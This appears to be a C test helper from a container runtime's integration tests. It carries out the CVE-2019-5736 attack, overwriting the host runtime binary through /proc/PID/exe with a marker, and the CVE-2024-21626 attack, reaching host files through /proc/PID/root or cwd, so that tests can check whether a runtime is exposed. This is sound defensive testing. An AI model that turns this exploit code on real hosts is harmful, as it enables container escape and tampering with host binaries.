/* Two attacks of a container on the runtime's processes in its pid namespace.
 *
 * CVE-2019-5736 as a container would try it: runs as a process of the container (root,
 * no extra capabilities) and waits for the next process of its pid namespace to run an
 * executable that is not the container's own (the runtime, re-run through a
 * "#!/proc/self/exe" script). It holds that executable open, kills the process, and
 * tries to write into the file until the deadline.
 *
 * usage: exe-attack SECONDS REPORT [KNOWN-EXECUTABLE...]
 * REPORT gets one line per finding:
 *   CAUGHT <pid> <readlink of its exe>
 *   WROTE <path>             the executable was changed: the runtime is exposed
 *   REFUSED <errno text>     it could not be written
 *   NOTHING                  no foreign executable was seen before the deadline
 *
 * CVE-2024-21626 against a process that is still being set up (needs CAP_SYS_PTRACE):
 * usage: exe-attack reach SECONDS REPORT HOST-PATH
 * watches each new process of the namespace while it still runs the runtime's image (not
 * this program or /bin/busybox) and
 * reports whether HOST-PATH (a file on the host, outside the container) is reachable
 * through its /proc/PID/root or /proc/PID/cwd:
 *   SETUP <pid>              looked at a process still being set up
 *   HOST <pid> <root|cwd>    the host file was reachable through it
 *
 * Built statically by the integration tests (RuntimeImageTests, HostReachTests). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *report;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void say(const char *fmt, const char *a, long n) {
    if (n >= 0) fprintf(report, fmt, n, a); else fprintf(report, fmt, a);
    fflush(report);
}

static long last_pid(int fd) {
    char buf[32];
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n <= 0) return -1;
    buf[n] = 0;
    return strtol(buf, NULL, 10);
}

static int reach(int argc, char **argv);

int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "reach") == 0) return reach(argc - 1, argv + 1);
    if (argc < 3) return 2;
    double deadline = now() + atof(argv[1]);
    report = fopen(argv[2], "a");
    if (!report) return 2;
    /* Executables the container itself runs are not the target. */
    struct stat known[16];
    int nknown = 0;
    if (stat("/proc/self/exe", &known[nknown]) == 0) nknown++;
    for (int i = 3; i < argc && nknown < 16; i++)
        if (stat(argv[i], &known[nknown]) == 0) nknown++;

    /* The pid namespace hands out pids in order: the next process is ns_last_pid + 1. */
    int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    if (lastfd < 0) { say("ERROR ns_last_pid %s\n", strerror(errno), -1); return 1; }
    long ignored[64];
    int nignored = 0;
    int found = 0;
    while (now() < deadline) {
        long last = last_pid(lastfd);
        for (long pid = last; pid <= last + 1 && pid > 1; pid++) {
            int skip = pid == getpid();
            for (int i = 0; i < nignored; i++) if (ignored[i] == pid) skip = 1;
            if (skip) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int exe = open(path, O_PATH | O_CLOEXEC);
            if (exe < 0) continue;   /* not there yet, or not dumpable (the runtime before exec) */
            struct stat st;
            int ours = fstat(exe, &st) != 0;
            for (int i = 0; i < nknown && !ours; i++)
                if (st.st_dev == known[i].st_dev && st.st_ino == known[i].st_ino) ours = 1;
            if (ours) {
                close(exe);
                if (nignored < 64) ignored[nignored++] = pid;
                continue;
            }
            char target[512] = "";
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n > 0) target[n] = 0;
            say("CAUGHT %ld %s\n", target, pid);
            found = 1;
            /* Once no process runs the file, a writable host file opens for writing. */
            kill(pid, SIGKILL);
            char self[64];
            snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
            int done = 0;
            while (!done && now() < deadline) {
                int w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
                if (w >= 0) {
                    const char marker[] = "\nPWNED-BY-CONTAINER\n";
                    if (write(w, marker, sizeof marker - 1) > 0) say("WROTE %s\n", target, -1);
                    else say("REFUSED write: %s\n", strerror(errno), -1);
                    close(w);
                    done = 1;
                } else if (errno == ETXTBSY) {
                    usleep(2000);
                } else {
                    say("REFUSED %s\n", strerror(errno), -1);
                    done = 1;
                }
            }
            close(exe);
            if (nignored < 64) ignored[nignored++] = pid;
        }
    }
    if (!found) say("NOTHING%s\n", "", -1);
    return 0;
}

static int reach(int argc, char **argv) {
    if (argc < 4) return 2;
    double deadline = now() + atof(argv[1]);
    report = fopen(argv[2], "a");
    if (!report) return 2;
    const char *marker = argv[3];
    struct stat self, shell;
    if (stat("/proc/self/exe", &self) != 0 || stat("/bin/busybox", &shell) != 0) return 2;
    int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    if (lastfd < 0) return 2;
    long seen = -1;
    while (now() < deadline) {
        long last = last_pid(lastfd);
        for (long pid = last; pid <= last + 1 && pid > 1; pid++) {
            if (pid == getpid()) continue;
            char path[600];
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            struct stat exe;
            /* Only while it still runs the runtime (not yet the exec'd program). */
            if (stat(path, &exe) != 0) continue;
            if ((exe.st_dev == self.st_dev && exe.st_ino == self.st_ino) ||
                (exe.st_dev == shell.st_dev && exe.st_ino == shell.st_ino)) continue;
            if (pid != seen) { say("SETUP %ld%s\n", "", pid); seen = pid; }
            const char *links[] = {"root", "cwd"};
            for (int i = 0; i < 2; i++) {
                snprintf(path, sizeof path, "/proc/%ld/%s/%s", pid, links[i], marker);
                if (access(path, F_OK) == 0) say("HOST %ld %s\n", links[i], pid);
            }
        }
    }
    return 0;
}
